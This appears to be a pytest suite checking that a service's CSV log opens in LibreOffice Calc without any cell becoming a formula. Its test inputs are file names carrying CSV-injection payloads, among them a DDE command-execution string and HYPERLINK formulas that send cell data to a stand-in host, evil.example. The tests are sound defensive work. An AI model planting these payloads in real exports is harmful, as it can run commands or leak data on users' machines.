"""The CSV opened by LibreOffice: nothing in it runs as a formula, whatever files are called.

`make spreadsheet` installs LibreOffice Calc and runs this.
"""

from __future__ import annotations

import os
import re
import subprocess
import zipfile
from pathlib import Path

import pytest
from arrivals import picture_number

import audit
from machine import lacking, needs
from service import STUB, Service, environment

# As for a person who wants everything recognised: UTF-8, numbers detected, formulas evaluated.
EAGER = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
OPENED = {
    "by itself": (),
    "eagerly": (f"--infilter={EAGER}",),
    "where ; separates": ("--infilter=CSV:59,34,76,1",),
    "eagerly, where ; separates": (f"--infilter={EAGER.replace('CSV:44', 'CSV:59')}",),
    "where all separate": (f"--infilter={EAGER.replace('CSV:44', 'CSV:9/44/59/124')}",),
    "where | separates and ' quotes": ("--infilter=CSV:59/124,39,76,1",),
}
NAMES = (
    "=1+1",
    "=cmd|' \\C calc'!A0",
    '=HYPERLINK("http:\\\\evil.example","x")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\u200b=1+1",
    '"=1+1',
    '","=1+1',
    "'=1+1",
    ";=1+1",
    "a;=1+1;",
    'b;=HYPERLINK("http:\\\\evil.example"&A1,"x");',
    "c;@SUM(1,2)",
    "e\t=1+1",
    'f;"=1+1',
    "g;'=1+1",
    "h; =1+1",
    "k|=1+1|",
    'l","=1+1',
    "m,'=1+1",
    "n;+1+1",
    "{=1+1}",
    "=DDE(1)",
    "%=1+1",
    "|=1+1",
)


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The CSV of a service that was given these names, as files, rejected files and folders."""
    root = tmp_path_factory.mktemp("spreadsheet") / "root"
    service = Service(root, command=STUB)
    for number, name in enumerate(NAMES):
        folder = service.inbox / name.replace("/", "")
        folder.mkdir()
        (folder / f"{name}.png").write_bytes(picture_number(number))
        (folder / f"{name}.jpg").write_bytes(b"no picture")
    service.start("--once")
    assert service.ended() == 3
    assert len(audit.csv_rows(root)) == 2 * len(NAMES)
    (found,) = (root / "logs").glob("results-*.csv")
    return found


def converted(file: Path, folder: Path, kind: str, options: tuple[str, ...]) -> str:
    """The sheet of a CSV as LibreOffice has opened it, in XML."""
    needs(lacking(soffice="libreoffice-calc"))
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = ["soffice", profile, "--headless", *options, "--convert-to", kind, "--outdir"]
    subprocess.run(
        [*command, str(folder), str(file)],
        check=True,
        capture_output=True,
        timeout=110,
        env=environment(HOME=str(folder)),
    )
    with zipfile.ZipFile(folder / f"{file.stem}.{kind}") as book:
        name = "content.xml" if kind == "ods" else "xl/worksheets/sheet1.xml"
        return book.read(name).decode()


def formulas(sheet: str) -> list[str]:
    return re.findall(r'table:formula="[^"]*"|<f[ >/][^<]*', sheet)


@pytest.mark.parametrize("kind", ["ods", "xlsx"])
@pytest.mark.parametrize("way", OPENED)
def test_no_cell_of_our_csv_is_a_formula(log: Path, tmp_path: Path, kind: str, way: str) -> None:
    sheet = converted(log, tmp_path, kind, OPENED[way])
    assert not formulas(sheet)
    rows = re.findall(r"<table:table-row|<row ", sheet)
    assert len(rows) >= 2 * len(NAMES) + 1, "a name has broken a row"


@pytest.mark.parametrize("kind", ["ods", "xlsx"])
@pytest.mark.parametrize(("way", "text"), [("eagerly", "=1+1"), ("where ; separates", "a;=1+1;")])
def test_a_csv_that_is_not_defused_has_formulas_there(
    tmp_path: Path, kind: str, way: str, text: str
) -> None:
    file = tmp_path / "control.csv"
    file.write_text(f'"a"\r\n0,"{text}"\r\n' if ";" in text else f'"a"\r\n"{text}"\r\n')
    assert len(formulas(converted(file, tmp_path, kind, OPENED[way]))) == 1


def test_names_are_told_as_they_are_in_the_jsonl(log: Path) -> None:
    names = {record["filename"] for record in audit.jsonl_records(log.parents[1])}
    assert os.fsdecode(b"=1+1.png") in names
